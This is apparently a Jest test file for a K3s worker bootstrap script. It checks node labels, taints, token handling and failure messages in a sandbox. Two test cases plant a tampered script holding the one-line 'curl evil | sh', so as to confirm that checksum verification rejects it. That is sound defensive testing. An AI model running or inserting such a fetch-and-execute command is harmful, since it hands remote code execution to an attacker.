import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { STARTUP_TAINT, LABELS } from '../../webhook/model/names';
import { isInstalled } from '../worker/notices-unit';
import { parseConfiguration } from '../../stacks/configuration';
import { workerSettings } from '../../stacks/hosts/settings';
import { webhookPool } from '../../stacks/webhook-pool';
import { startMachine, type Machine } from './support/machine';
import { BUCKET, PREFIX } from './support/sandbox';

const TOKEN = `K10${'a'.repeat(64)}::node:${'5'.repeat(64)}`;
const CAN = ['bash', 'curl', 'sha256sum', 'tar'].every(isInstalled);
const describeHosts = CAN ? describe : describe.skip;

let machine: Machine;

async function boot(settings: Readonly<Record<string, string>> = {}) {
  return machine.sandbox.boot('worker', { SANDBOX_JOIN_TOKEN: TOKEN, ...settings });
}

const failures = (said: readonly string[]) => said.filter((line) => line.includes('FAILED'));

describeHosts(`a worker${CAN ? '' : ' (skipped: bash, curl, sha256sum or tar is not on PATH)'}`, () => {
  beforeEach(async () => {
    machine = await startMachine('spot');
    machine.parameters.put(`${PREFIX}server-address`, '10.0.0.5');
    machine.parameters.put(`${PREFIX}join-token`, TOKEN, { type: 'SecureString' });
  });

  afterEach(() => machine.stop());

  it('joins: its node has the name, the provider id, the labels and the taint that the webhook looks for', async () => {
    const { code, said } = await boot();
    expect({ code, said: said.at(-1) }).toEqual({
      code: 0,
      said: `smartscale-bootstrap: ${machine.id} joined pool workers at 10.0.0.5`,
    });
    const [node, ...others] = machine.world.cluster.nodes();
    expect(others).toEqual([]);
    expect(node?.metadata.name).toBe(machine.id);
    expect(node?.metadata.labels).toMatchObject({
      [LABELS.pool]: 'workers',
      'smartscale/capacity-type': 'spot',
      'topology.kubernetes.io/zone': machine.zone,
      'topology.kubernetes.io/region': 'eu-central-1',
      'node.kubernetes.io/instance-type': 'm6i.large',
    });
    expect(node?.spec.providerID).toBe(`aws:///${machine.zone}/${machine.id}`);
    expect(node?.spec.taints).toContainEqual({ key: STARTUP_TAINT, value: 'true', effect: 'NoExecute' });
  });

  it('registers with the labels and taints of its pool, as the webhook expects a new node of it', async () => {
    const pool = {
      instanceTypes: ['m6i.large'],
      capacity: 'spot',
      labels: { team: 'shop', 'example.com/tier': '' },
      taints: [
        { key: 'dedicated', value: 'batch', effect: 'NoSchedule' },
        { key: 'example.com/slow', effect: 'PreferNoSchedule' },
      ],
    };
    const configuration = parseConfiguration({ context: { smartscale: { pools: { workers: pool } } } }, 'test');
    const settings = workerSettings(configuration, 'workers', { region: 'eu-central-1', bucket: BUCKET });
    const { SMARTSCALE_NODE_LABELS = '', SMARTSCALE_NODE_TAINTS = '' } = settings;
    expect((await boot({ SMARTSCALE_NODE_LABELS, SMARTSCALE_NODE_TAINTS })).code).toBe(0);
    const config = parse(machine.sandbox.file('/etc/rancher/k3s/config.yaml')) as Record<string, readonly string[]>;
    expect(config['node-label']).toEqual(expect.arrayContaining(['team=shop', 'example.com/tier=']));
    expect(config['node-taint']).toEqual([
      'smartscale/startup=true:NoExecute',
      'dedicated=batch:NoSchedule',
      'example.com/slow=:PreferNoSchedule',
    ]);
    const [node] = machine.world.cluster.nodes();
    const made = { template: { id: 'lt-0', version: '1' }, subnets: [], allocatable: { cpu: '1', memory: '1Gi' } };
    const expected = configuration.pools['workers'] && webhookPool(configuration.pools['workers'], made).node;
    // The kubelet itself says its architecture.
    const { 'kubernetes.io/arch': _architecture, ...labels } = expected?.labels ?? {};
    expect(node?.metadata.labels).toMatchObject({ ...labels, team: 'shop' });
    const passing = [STARTUP_TAINT, 'node.kubernetes.io/not-ready'];
    const taints = node?.spec.taints?.filter(({ key }) => !passing.includes(key));
    expect(taints).toEqual(expected?.taints.map(({ value = '', ...it }) => ({ ...it, value })));
  });

  it('runs the notices unit, and leaves its folder to node-exporter', async () => {
    await boot();
    expect(machine.sandbox.commands()).toContain('systemctl restart smartscale-notices.service');
    expect(machine.sandbox.file('/usr/local/bin/smartscale-notices.sh')).toContain('IMDS');
    expect(machine.sandbox.mode('/var/lib/smartscale-notices')).toBe('755');
  });

  it('a second run changes nothing and fetches K3s no second time', async () => {
    await boot();
    const before = machine.sandbox.file('/etc/rancher/k3s/config.yaml');
    const { code } = await boot({ SMARTSCALE_K3S_URL: 'http://127.0.0.1:9/k3s' });
    expect(code).toBe(0);
    expect(machine.sandbox.file('/etc/rancher/k3s/config.yaml')).toBe(before);
    expect(machine.world.cluster.nodes()).toHaveLength(1);
  });

  it('the token is in no argument, no log, no configuration; in one file of root, which lies in memory', async () => {
    const { said } = await boot();
    const everybodyReads = [...said, ...machine.sandbox.commands(), machine.sandbox.log('journal')].join('\n');
    expect(everybodyReads).not.toContain('5555');
    expect(machine.sandbox.file('/etc/rancher/k3s/config.yaml')).not.toContain('5555');
    expect(machine.sandbox.file('/run/smartscale-join/token').trim()).toBe(TOKEN);
    expect(machine.sandbox.mode('/run/smartscale-join/token')).toBe('600');
    expect(machine.sandbox.leftOver()).toEqual([]);
  });

  it('each start of the agent fetches the token, so that a rotated one is found', async () => {
    await boot();
    const rotated = TOKEN.replaceAll('5', '7');
    machine.parameters.put(`${PREFIX}join-token`, rotated, { overwrite: true });
    expect((await boot({ SANDBOX_JOIN_TOKEN: rotated })).code).toBe(0);
    expect(machine.sandbox.file('/run/smartscale-join/token').trim()).toBe(rotated);
  });

  it.each<[string, () => Record<string, string> | void, RegExp]>([
    [
      'SSM says no',
      () => machine.parameters.deny('GetParameter'),
      /FAILED while fetching the scripts from .*: .*not authorized to perform: ssm:GetParameter.* To do: .*ssm:GetParameter/,
    ],
    [
      'SSM is away',
      () => ({ SANDBOX_SSM: 'http://127.0.0.1:9' }),
      /FAILED while fetching the scripts from .*: Could not connect to the endpoint URL.* To do: check the route to SSM/,
    ],
    [
      'the checksum of K3s is wrong',
      () => ({ K3S_SHA256: '0'.repeat(64) }),
      /FAILED while installing K3s v1\.34\.3\+k3s1: the checksum of .* is not 0{64}\. To do: correct version or checksum/,
    ],
    [
      'K3s cannot be fetched',
      () => ({ SMARTSCALE_K3S_URL: 'http://127.0.0.1:9/k3s' }),
      /FAILED while installing K3s .*: http:\/\/127\.0\.0\.1:9\/k3s: curl: .* To do: check the route to the internet/,
    ],
    [
      'IMDS is silent',
      () => ({ SMARTSCALE_IMDS: 'http://127.0.0.1:9' }),
      /FAILED while asking IMDS who this machine is: IMDS gives no session token\. To do: check that the launch template/,
    ],
    [
      'the release is not there',
      () => rmSync(join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/steps.sh')),
      /FAILED while fetching the scripts from s3:\/\/smartscale-shop-bucket: k3s\/worker\/steps\.sh: .*404.* To do: check the route to S3/,
    ],
    [
      'a script is another than CDKTF wrote',
      () => writeFileSync(join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/join-token.sh'), 'curl evil | sh\n'),
      /FAILED while fetching the scripts from .*: join-token\.sh is another than CDKTF wrote\. To do: .*run cdktf deploy/,
    ],
    [
      'script and list are another than CDKTF wrote',
      () => {
        writeFileSync(join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/join-token.sh'), 'curl evil | sh\n');
        machine.sandbox.sign();
      },
      /FAILED while fetching the scripts from .*: SHA256SUMS is another than CDKTF wrote\. To do: /,
    ],
    [
      'the address of the server is none',
      () => void machine.parameters.put(`${PREFIX}server-address`, 'no address', { overwrite: true }),
      /FAILED while telling where the server is: it is no address\. To do: run cdktf deploy/,
    ],
    [
      'the server lets nobody in',
      () => ({ SANDBOX_JOIN_TOKEN: 'another' }),
      /FAILED while joining the cluster: the server at 10\.0\.0\.5 did not let it in within 1 s: .*not authorized.* To do: .*join token was rotated/,
    ],
    [
      'the token is none',
      () => void machine.parameters.put(`${PREFIX}join-token`, 'hunter2', { overwrite: true }),
      /FAILED while starting k3s-agent\.service: .*it is no token with the checksum.* To do: run journalctl/,
    ],
    [
      'a setting is missing',
      () => ({ SMARTSCALE_POOL: '' }),
      /FAILED while beginning: SMARTSCALE_POOL is not set\. To do: /,
    ],
  ])('when %s it ends with one line that says what to do, and a code that is not 0', async (_what, trouble, line) => {
    const { code, said } = await boot(trouble() ?? {});
    expect(code).not.toBe(0);
    expect(failures(said)).toEqual([expect.stringMatching(line)]);
    expect(said.at(-1)).toBe(failures(said)[0]);
    expect(machine.world.cluster.nodes()).toEqual([]);
    expect(said.join('\n')).not.toContain('hunter2');
  });

  it('what fails half the time is tried again', async () => {
    const { sandbox } = machine;
    sandbox.program(
      'aws',
      `if mkdir "${sandbox.root}/tried" 2>/dev/null; then echo "Read timeout on endpoint URL" >&2; exit 255; fi\nrmdir "${sandbox.root}/tried"\nexec node ${join(__dirname, 'stubs/aws.cjs')} "$@"`,
    );
    expect((await boot()).code).toBe(0);
  });

  it('a program that ends unforeseen is told with file and line, and stops everything', async () => {
    const steps = join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/install.sh');
    writeFileSync(steps, readFileSync(steps, 'utf8').replace("step='writing the configuration of K3s'", 'false'));
    machine.publish();
    const { code, said } = await boot();
    expect(code).not.toBe(0);
    expect(failures(said)).toEqual([expect.stringMatching(/line \d+ of install\.sh ended with 1/)]);
    expect(machine.sandbox.commands().join()).not.toContain('systemctl restart k3s-agent');
  });
});
